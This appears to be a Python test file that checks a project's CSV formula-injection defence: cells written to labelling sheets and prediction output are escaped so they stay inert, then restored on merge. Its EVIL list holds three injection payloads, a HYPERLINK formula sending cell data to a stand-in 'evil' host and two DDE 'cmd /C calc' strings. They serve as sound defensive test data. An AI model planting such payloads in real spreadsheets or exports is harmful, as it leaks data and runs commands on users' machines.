"""Formula injection (issue 19): spreadsheet-bound cells that start a formula are made inert, reversibly."""

from __future__ import annotations

import csv

from hypothesis import given
from hypothesis import strategies as st

from kwct_ml.corpus import dataset
from kwct_ml.io import cells
from kwct_ml.labelling import merge as labelling_merge
from kwct_ml.labelling import sheet as labelling_sheet

from .conftest import CONDEMNATION, SUPPORT, run_predict

EVIL = ['=HYPERLINK("http://evil/?"&A2,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


@given(st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "'", "\t", "\r", "a", "ب"]), max_size=6))
def test_restore_undoes_neutralise(text):
    safe = cells.neutralise(text)
    assert not safe.startswith(cells.FORMULA_STARTS)
    assert cells.restore(safe) == text


def test_prepare_sheet_cells_are_inert_and_merge_restores_the_text(tmp_path, data_copy):
    folder = tmp_path / "new"
    folder.mkdir()
    article = "\n".join([CONDEMNATION, *EVIL, SUPPORT]) + "\n"
    (folder / "evil.txt").write_text(article, encoding="utf-8")
    rows = labelling_sheet.sheet_rows(labelling_sheet.collect_articles([folder]))
    assert any(r["text"] in EVIL for r in rows)
    for row in rows:
        row["topic"], row["stance"] = "other", "neutral"
    sheet = tmp_path / "sheet.csv"
    labelling_sheet.write_sheet(rows, str(sheet))
    with open(sheet, encoding="utf-8-sig", newline="") as handle:
        written = [r["text"] for r in csv.DictReader(handle)]
    assert not any(t.startswith(cells.FORMULA_STARTS) for t in written)
    assert "'" + EVIL[0] in written
    labelling_merge.merge_sheet(sheet, data_copy, "mona")
    merged = dataset.load_corpus(data_copy)
    assert set(EVIL) <= set(merged["text"])  # the corpus holds the article's own text


def test_predict_bom_output_cells_are_inert(tmp_path, model_dir):
    (tmp_path / "evil.txt").write_text("\n".join([CONDEMNATION, *EVIL]) + "\n", encoding="utf-8")
    out = tmp_path / "out.csv"
    assert run_predict(model_dir, tmp_path / "evil.txt", "-o", out, "--bom")[0] == 0
    with open(out, encoding="utf-8-sig", newline="") as handle:
        texts = [r["text"] for r in csv.DictReader(handle)]
    assert len(texts) == 4 and not any(t.startswith(cells.FORMULA_STARTS) for t in texts)
    assert [cells.restore(t) for t in texts[1:]] == EVIL
    assert run_predict(model_dir, tmp_path / "evil.txt", "-o", out)[0] == 0  # without --bom: verbatim
    with open(out, encoding="utf-8", newline="") as handle:
        assert [r["text"] for r in csv.DictReader(handle)][1:] == EVIL
